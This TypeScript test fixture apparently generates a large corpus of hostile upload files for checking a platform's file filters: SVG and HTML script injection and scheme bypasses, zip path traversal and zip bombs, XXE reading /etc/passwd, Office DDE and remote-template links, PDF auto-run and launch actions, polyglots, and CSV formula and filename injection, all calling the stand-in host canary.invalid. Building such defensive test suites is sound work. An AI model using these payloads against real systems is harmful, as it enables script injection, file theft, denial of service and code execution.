import { strToU8, zipSync } from 'fflate';

/** A file made to attack who opens it. What it tries says `alert('canary')` or asks canary.invalid for something. */
export interface HostileFile {
  readonly family: string;
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** The host that no accepted file may ever reach. */
export const canary = 'http://canary.invalid';

const run = `alert('canary');fetch('${canary}/run')`;
const text = strToU8;
const many = (family: string, extension: string, bodies: readonly (string | Uint8Array)[]): HostileFile[] =>
  bodies.map((body, index) => ({
    family,
    name: `${family}-${index + 1}.${extension}`,
    bytes: typeof body === 'string' ? text(body) : body,
  }));

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}<rect width="9" height="9"/></svg>`;

const handlers = [
  'onactivate',
  'onscroll',
  'onresize',
  'onunload',
  'onload',
  'onclick',
  'onmouseover',
  'onfocusin',
  'onbegin',
  'onend',
  'onrepeat',
  'onerror',
];
const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java&#9;script:${run}`,
  `&#x6A;avascript:${run}`,
  ` javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run.replaceAll("'", '"')}'/>`,
  `vbscript:${run}`,
].map((scheme) => scheme.replaceAll('"', '&quot;').replaceAll('<', '&lt;'));

const drawings = [
  ...many(
    'svg-handler',
    'svg',
    handlers.map((name) => svg('', `${name}="${run}"`)),
  ),
  ...many(
    'svg-link',
    'svg',
    schemes.map((href) => svg(`<a xlink:href="${href}"><text y="9">a</text></a>`)),
  ),
  ...many('svg-animated', 'svg', [
    svg(`<a><animate attributeName="href" values="javascript:${run}"/><text y="9">a</text></a>`),
    svg(`<set attributeName="onload" to="${run}"/>`),
    svg(`<animate onbegin="${run}" attributeName="x" dur="1s"/>`),
    svg(`<animateTransform onend="${run}" attributeName="x" dur="0.1s"/>`),
  ]),
  ...many('svg-outside', 'svg', [
    svg(`<image href="${canary}/i.png"/>`),
    svg(`<use href="${canary}/u.svg#a"/>`),
    svg(`<style>@import url(${canary}/s.css);</style>`),
    svg(`<rect fill="url(${canary}/f#a)"/>`),
    svg(`<feImage xlink:href="${canary}/e.png"/>`),
    `<?xml-stylesheet href="${canary}/x.xsl" type="text/xsl"?>${svg('')}`,
  ]),
  ...many('svg-inside', 'svg', [
    svg(`<script>${run}</script>`),
    svg(`<script href="${canary}/s.js"/>`),
    svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject>`),
    svg(
      `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${run}&lt;/script&gt;"/></foreignObject>`,
    ),
    svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${run}</x:script>`),
    svg(`<handler xmlns="http://www.w3.org/2001/xml-events">${run}</handler>`),
  ]),
];

const page = (body: string, head = '') =>
  `<!doctype html><html><head>${head}</head><body>${body}<p>Cours</p></body></html>`;
const pages = [
  ...many('html-script', 'html', [
    page(`<script>${run}</script>`),
    page(`<script src="${canary}/s.js"></script>`),
    page(`<img src=x onerror="${run}">`),
    page(`<svg onload="${run}"></svg>`),
    page(`<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`),
    page(`<noscript><p title="</noscript><img src=x onerror=${run}>">`),
    page(`<details open ontoggle="${run}">a</details>`),
    page(`<video><source onerror="${run}"></video>`),
    page(`<input autofocus onfocus="${run}">`),
    page(`<marquee onstart="${run}">a</marquee>`),
    page(`<template><script>${run}</script></template>`),
    page(`<body onpageshow="${run}">`),
  ]),
  ...many(
    'html-link',
    'html',
    schemes.map((href) => page(`<a href="${href}">a</a><iframe src="${href}"></iframe>`)),
  ),
  ...many('html-outside', 'html', [
    page('', `<meta http-equiv="refresh" content="0;url=${canary}/r">`),
    page('', `<base href="${canary}/">`),
    page(`<form action="${canary}/f"><input name=a></form><script>document.forms[0].submit()</script>`),
    page(`<object data="${canary}/o"></object><embed src="${canary}/e">`),
    page('', `<link rel="stylesheet" href="${canary}/s.css">`),
    page(`<div style="background:url(${canary}/b)">a</div>`),
    page(`<a ping="${canary}/p" href="/">a</a>`),
  ]),
];

const archive = (files: Record<string, string | Uint8Array>) =>
  zipSync(
    Object.fromEntries(
      Object.entries(files).map(([name, body]) => [name, typeof body === 'string' ? text(body) : body]),
    ),
  );

/** A zip whose entries are named as no writer would name them: the bytes of a placeholder are replaced, as long as it. */
function renamed(zip: Uint8Array, from: string, to: string): Uint8Array {
  const bytes = Buffer.from(zip);
  for (let at = bytes.indexOf(from); at >= 0; at = bytes.indexOf(from, at + 1)) bytes.write(to, at, 'latin1');
  return bytes;
}

const archives = [
  ...many('zip-place', 'zip', [
    renamed(archive({ 'aaaaaaaaaaaa.txt': 'a' }), 'aaaaaaaaaaaa.txt', '../../../etc/xyz'),
    renamed(archive({ 'aaaaaaaaaaaa.txt': 'a' }), 'aaaaaaaaaaaa.txt', '/etc/cron.d/evil'),
    renamed(archive({ 'aaaaaaaaaaaa.txt': 'a' }), 'aaaaaaaaaaaa.txt', 'C:\\windows\\x.ini'),
    renamed(archive({ 'aaaaaaaaaaaa.txt': 'a' }), 'aaaaaaaaaaaa.txt', '..\\..\\..\\evil.x'),
    renamed(archive({ 'aaaaaaaaaaaa.txt': 'a' }), 'aaaaaaaaaaaa.txt', 'aaaaaaaa\0aaa.txt'),
  ]),
  ...many('zip-bomb', 'zip', [
    archive({ 'zeros.txt': new Uint8Array(30_000_000) }),
    archive({
      'inner.zip': archive({
        'inner.zip': archive({ 'inner.zip': archive({ 'inner.zip': archive({ 'a.txt': 'a' }) }) }),
      }),
    }),
    archive(Object.fromEntries(Array.from({ length: 10_500 }, (_, n) => [`${n}.txt`, '']))),
  ]),
  ...many(
    'zip-program',
    'zip',
    ['exe', 'bat', 'js', 'vbs', 'scr', 'lnk', 'ps1', 'jar'].map((extension) =>
      archive({ [`jeu.${extension}`]: 'MZ' }),
    ),
  ),
];

const entities =
  '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>';
const outside = `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${canary}/x">]>`;
const odt = (content: string, more: Record<string, string | Uint8Array> = {}) =>
  zipSync({
    mimetype: [text('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'content.xml': text(content),
    ...Object.fromEntries(
      Object.entries(more).map(([name, body]) => [name, typeof body === 'string' ? text(body) : body]),
    ),
  });
const docx = (more: Record<string, string>) =>
  archive({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...more });
const link = (kind: string, target: string) =>
  `<Relationships><Relationship Id="r" Type="http://x/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;

const documents = [
  ...many('xml-entities', 'svg', [entities + svg('<text>&c;</text>'), outside + svg('<text>&x;&y;</text>')]),
  ...many('xml-entities', 'xml', [`${entities}<a>&c;</a>`, `${outside}<a>&x;</a>`]),
  ...many('odf-entities', 'odt', [odt(`${entities}<a>&c;</a>`), odt(`${outside}<a>&x;</a>`)]),
  ...many('odf-active', 'odt', [
    odt('<office:document-content/>', { 'Basic/Standard/Module1.xml': '<script/>' }),
    odt(`<office:document-content><draw:image xlink:href="${canary}/i.png"/></office:document-content>`),
    odt(
      `<office:document-content><office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:event-listeners></office:document-content>`,
    ),
  ]),
  ...many('office-active', 'docx', [
    docx({ 'word/vbaProject.bin': 'macro' }),
    docx({ 'word/_rels/settings.xml.rels': link('attachedTemplate', `${canary}/t.dotm`) }),
    docx({ 'word/_rels/document.xml.rels': link('image', `${canary}/i.png`) }),
    docx({ 'word/_rels/document.xml.rels': link('oleObject', `${canary}/o.rtf`) }),
    docx({ 'word/document.xml': '<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>' }),
    docx({ 'word/embeddings/oleObject1.bin': 'MZ' }),
  ]),
  ...many('rtf-active', 'rtf', [
    '{\\rtf1{\\object\\objdata 01}}',
    `{\\rtf1{\\*\\template ${canary}/t}}`,
    '{\\rtf1 DDEAUTO cmd}',
  ]),
];

const pdf = (action: string) =>
  `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${action} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n` +
  '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n';
const booklets = [
  ...many('pdf-active', 'pdf', [
    pdf(`/OpenAction << /S /JavaScript /JS (${run.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`),
    pdf('/OpenAction << /S /J#61vaScript /JS (1) >>'),
    pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    pdf(`/OpenAction << /S /URI /URI (${canary}/u) >>`),
    pdf(`/OpenAction << /S /SubmitForm /F (${canary}/s) >>`),
    pdf('/AA << /WC << /S /JavaScript /JS (1) >> >>'),
    pdf('/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 4 0 R >> >>] >> >>'),
    pdf('/AcroForm << /XFA 4 0 R >>'),
    pdf('/OpenAction << /S /GoToR /F (\\\\\\\\canary.invalid\\\\a) >>'),
  ]),
  ...many('polyglot', 'pdf', [
    `<html><script>${run}</script>\n${pdf('')}`,
    Buffer.concat([Buffer.from(pdf('')), archive({ 'a.txt': 'a' })]),
  ]),
  ...many('polyglot', 'gif', [`GIF89a/*\x01\x00*/=1;${run}//`, `GIF89a<script>${run}</script>`]),
  ...many('polyglot', 'png', [
    `\x89PNG\r\n\x1a\n<script>${run}</script>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  ]),
  ...many('polyglot', 'jpg', [`<html><script>${run}</script></html>`, 'MZ\x90\x00 un programme']),
];

const epub = (chapter: string) =>
  zipSync({
    mimetype: [text('application/epub+zip'), { level: 0 }],
    'META-INF/container.xml': text(
      '<container><rootfiles><rootfile full-path="c.opf"/></rootfiles></container>',
    ),
    'c.opf': text(
      '<package><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="c"/></spine></package>',
    ),
    'c.xhtml': text(`<html xmlns="http://www.w3.org/1999/xhtml"><body>${chapter}<p>Cours</p></body></html>`),
  });
const notebook = (cell: object) =>
  JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [cell] });
const output = (data: object) =>
  notebook({
    cell_type: 'code',
    source: 'x',
    metadata: {},
    execution_count: 1,
    outputs: [{ output_type: 'display_data', data, metadata: {} }],
  });
const courses = [
  ...many(
    'epub-active',
    'epub',
    [
      `<script>${run}</script>`,
      `<img src="x" onerror="${run}"/>`,
      `<iframe src="${canary}/i"/>`,
      `<a href="javascript:${run}">a</a>`,
    ].map(epub),
  ),
  ...many('h5p-active', 'h5p', [
    archive({
      'h5p.json':
        '{"mainLibrary":"H5P.Evil","preloadedDependencies":[{"machineName":"H5P.Evil","majorVersion":1,"minorVersion":0}]}',
      'content/content.json': '{}',
      'H5P.Evil-1.0/evil.js': run,
    }),
    archive({
      'h5p.json': '{"mainLibrary":"H5P.Blanks"}',
      'content/content.json': JSON.stringify({ text: `<img src=x onerror="${run}">` }),
    }),
  ]),
  ...many('notebook', 'ipynb', [
    output({ 'text/html': `<script>${run}</script>` }),
    output({ 'text/html': `<img src=x onerror="${run}">` }),
    output({ 'image/svg+xml': svg('', `onload="${run}"`) }),
    output({ 'application/javascript': run }),
    notebook({
      cell_type: 'markdown',
      metadata: {},
      source: `<img src=x onerror="${run}"> [a](javascript:${run})`,
    }),
  ]),
  ...many('markdown', 'md', [
    `<script>${run}</script>\n\nCours`,
    `[a](javascript:${run})\n`,
    `![a](${canary}/i.png)\n`,
    `<svg onload="${run}"></svg>\n\nCours`,
    `<iframe src="${canary}/i"></iframe>\n\nCours`,
    `$\\href{javascript:${run}}{x}$\n`,
  ]),
  ...many('table', 'csv', ["=cmd|'/C calc'!A0,b\n", `=HYPERLINK("${canary}/h","a"),b\n`, '@SUM(1+1),b\n']),
  ...many('source', 'js', [run]),
];

const names = [
  'cours.pdf.exe',
  'cours\u202Efdp.exe',
  '../../../etc/passwd',
  '..\\..\\evil.md',
  'CON.md',
  'nul\0.md',
  'ligne\nX-Evil: 1.md',
  '"><img src=x onerror=alert(1)>.md',
  '.htaccess',
  'a'.repeat(300) + '.md',
  "'; drop table upload;--.md",
  '%2e%2e%2fevil.md',
  'fiche\u200B.md',
  '${7*7}.md',
  'page.php',
].map((name) => ({ family: 'name', name, bytes: text('# Cours\n\nUne leçon.\n') }));

/** At least 150 files, each another way to attack; a part of every family in the run of each commit. */
export const hostileFiles: readonly HostileFile[] = [
  ...drawings,
  ...pages,
  ...archives,
  ...documents,
  ...booklets,
  ...courses,
  ...names,
];
